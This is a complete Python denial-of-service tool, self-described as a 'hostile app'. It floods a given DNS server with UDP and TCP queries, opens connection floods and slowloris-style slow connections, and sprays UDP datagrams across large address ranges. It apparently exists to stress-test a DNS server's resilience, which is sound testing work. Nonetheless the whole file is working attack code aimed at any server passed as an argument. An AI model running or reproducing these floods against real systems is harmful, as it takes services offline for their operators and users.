#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""A hostile app: floods until it is ended. It writes "flooding" when it is well under way.

    flood.py questions WHAT SERVER       questions over UDP through 64 sockets, without waiting for answers
    flood.py ports WHAT SERVER           the same, each through a port of its own
    flood.py streams WHAT SERVER         the same over 32 TCP connections, whose answers are read
    flood.py connects SERVER             TCP connections, one after the other, on which nothing is asked
    flood.py slow HOW SERVER             400 TCP connections that keep the server waiting
    flood.py flows FIRST-ADDRESS PORT    a datagram to each address from this one on
    flood.py open ADDRESS PORT           flows to one address, each from a port of its own

WHAT: "fresh", a name that nobody has asked for; "cached", always the same; "denied"; "silent", whose server never answers; "junk".
HOW: "octets", one a second; "half" a question; "deaf", which asks for much and reads nothing.
"""

import contextlib
import itertools
import socket
import struct
import sys
import time

SOCKETS = 64
STREAMS = 32
SLOW = 400
OPEN = 2000
UNDER_WAY = 2000
HEADER = struct.Struct("!HHHHHH")


def labels(text):
    return b"".join(bytes([len(label)]) + label.encode() for label in text.split(".")) + b"\0"


def question(what, number):
    name = {"fresh": f"n{number:09d}.fresh.example", "cached": "shared.example", "denied": f"n{number:09d}.evil.test",
            "silent": f"n{number:09d}.silent.example", "big": "large.https.example"}.get(what)
    if name is None:
        return b"junk" * 8
    return HEADER.pack(number & 65535, 0x100, 1, 0, 0, 0) + labels(name) + struct.pack("!HH", 16 if what == "big" else 1, 1)


def framed(wire):
    return struct.pack("!H", len(wire)) + wire


def numbers():
    """0, 1, 2 ...; says so when the flood is well under way."""
    for number in itertools.count():
        if number == UNDER_WAY:
            print("flooding", flush=True)
        yield number


def udp():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK)


def flood_questions(what, server):
    sockets = [udp() for _ in range(SOCKETS)]
    for number in numbers():
        with contextlib.suppress(OSError):
            sockets[number % SOCKETS].sendto(question(what, number), (server, 53))


def flood_ports(what, server):
    for number in numbers():
        with udp() as sock, contextlib.suppress(OSError):
            sock.sendto(question(what, number), (server, 53))


def connect(server):
    sock = socket.create_connection((server, 53), timeout=5)
    sock.setblocking(False)
    return sock


def flood_streams(what, server):
    sockets = [connect(server) for _ in range(STREAMS)]
    for number in numbers():
        which = number % STREAMS
        try:
            sockets[which].send(framed(question(what, number)) * 8)
            sockets[which].recv(65536)
        except BlockingIOError:
            pass
        except OSError:
            sockets[which].close()
            sockets[which] = connect(server)


def flood_connects(server):
    sockets = []
    for number in numbers():
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex((server, 53))
        sockets.append(sock)
        if len(sockets) == OPEN:
            sockets.pop(0).close()


def flood_slow(how, server):
    first = {"octets": framed(question("cached", 1))[:1], "half": framed(question("cached", 1))[:20], "deaf": framed(question("big", 1)) * 32}[how]
    sockets = []
    for turn in itertools.count():
        while len(sockets) < SLOW:
            with contextlib.suppress(OSError):
                sock = socket.create_connection((server, 53), timeout=2)
                sock.setblocking(False)
                sock.send(first)
                sockets.append(sock)
        if turn == 0:
            print("flooding", flush=True)
        time.sleep(1)
        for sock in list(sockets):
            try:
                if how != "half":
                    sock.send(first[:1] if how == "octets" else first)
            except BlockingIOError:
                pass
            except OSError:
                sock.close()
                sockets.remove(sock)


def flood_flows(first, port):
    base = struct.unpack("!I", socket.inet_aton(first))[0]
    sock = udp()
    for number in numbers():
        with contextlib.suppress(OSError):
            sock.sendto(b"flood", (socket.inet_ntoa(struct.pack("!I", base + number % (1 << 21))), int(port)))


def flood_open(address, port):
    sockets = []
    for number in numbers():
        sock = udp()
        with contextlib.suppress(OSError):
            sock.sendto(b"flood", (address, int(port)))
        sockets.append(sock)
        if len(sockets) == OPEN:
            sockets.pop(number % OPEN).close()


if __name__ == "__main__":
    {"questions": flood_questions, "ports": flood_ports, "streams": flood_streams, "connects": flood_connects, "slow": flood_slow, "flows": flood_flows,
     "open": flood_open}[sys.argv[1]](*sys.argv[2:])
